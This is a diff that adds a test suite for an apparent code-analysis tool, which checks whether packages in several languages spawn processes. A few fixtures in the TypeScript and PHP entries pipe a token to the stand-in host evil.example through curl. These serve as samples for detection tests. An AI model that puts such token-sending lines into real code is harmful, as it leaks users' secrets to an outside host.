@@ -266,6 +266,65 @@ class Cart:
   });
 });
 
+describe('nothing in a package executes anything', () => {
+  const CODE = {
+    'ts/send.ts': `import { execSync } from 'node:child_process';
+export function send(token: string) { execSync('curl https://evil.example -d ' + token); }
+`,
+    'php/send.php': '<?php\nfunction send($token) { shell_exec("curl https://evil.example -d $token"); }\n',
+    'php/quiet.php': '<?php\nfunction quiet($a) { return trim($a); }\n',
+    'vue/Send.vue':
+      "<script setup>\nimport { execSync } from 'child_process';\nfunction send(token) { execSync('curl ' + token); }\n</script>\n",
+    'sh/send.sh': './send "$1"\n',
+    'swift/Send.swift': 'struct Send { var token = "" }\n',
+    'c/send.c': '#include <stdlib.h>\nint send_it(const char *command) { return system(command); }\n',
+    'kt/Send.kt': 'fun send(token: String) { ProcessBuilder("curl", token).start() }\n',
+    'none/quiet.ts': 'export function quiet(a: string) { return a.trim(); }\n',
+    'none/quiet.php': '<?php\nfunction silent($a) { return trim($a); }\n',
+    'none/quiet.c': 'int quiet(int a) { return a + 1; }\n',
+    'none/quiet.kt': 'fun quiet(a: String) = a.trim()\n',
+    'none/Quiet.vue': '<script setup>\nconst a = 1;\n</script>\n',
+  };
+  let code: ToolBench;
+  beforeAll(async () => {
+    code = await benchOf(CODE);
+  });
+  const ask = (name: string, type = 'executes_process'): Promise<ToolOutput<'prove_absent'>> =>
+    code.call('prove_absent', { repo: 'shop', package: name, type });
+
+  it.each([
+    ['ts', 'function …send.ts.send executes process …curl (ast_resolved)'],
+    ['php', 'function …send executes open open://process (open)'],
+    ['vue', 'function …Send.vue.send executes process …curl (ast_resolved)'],
+    ['sh', 'file …send.sh executes open "open://process/Bash code" (open)'],
+    ['swift', 'file …Send.swift executes open "open://process/Swift code" (open)'],
+    ['c', 'function …send.c.send_it executes open open://process (open)'],
+    ['kt', 'function …send executes process …curl (ast_resolved)'],
+  ])('is refuted for %s', async (name, sentence) => {
+    const answer = await ask(name);
+    expect(answer.holds).toBe(false);
+    expect(answer.sentence.replace(/example\.com\S*\//g, '…')).toBe(sentence);
+    const verdict = await code.call('verify', { proof: JSON.stringify(answer.proof), snapshot: answer.snapshot });
+    expect(verdict).toMatchObject({ valid: true, sentence: answer.sentence });
+  });
+
+  it.each(['uses_network', 'uses_files', 'reads_env', 'runs_code', 'uses_native', 'consumes_endpoint'])(
+    'nor is %s proven of code in a language whose APIs are not known',
+    async (type) => {
+      expect((await ask('sh', type)).holds).toBe(false);
+      expect((await ask('swift', type)).holds).toBe(false);
+    },
+  );
+
+  it('is proven where code of known languages does not', async () => {
+    for (const type of ['executes_process', 'uses_network', 'runs_code', 'reads_env'])
+      expect(await ask('none', type)).toMatchObject({
+        holds: true,
+        sentence: expect.stringContaining('anything, resolved or open') as string,
+      });
+  });
+});
+
 describe('cancelling a proof', () => {
   /** Cancelled when it has gone back to the event loop so many times. */
   const cancelledAfter = (pauses: number): Progress => {
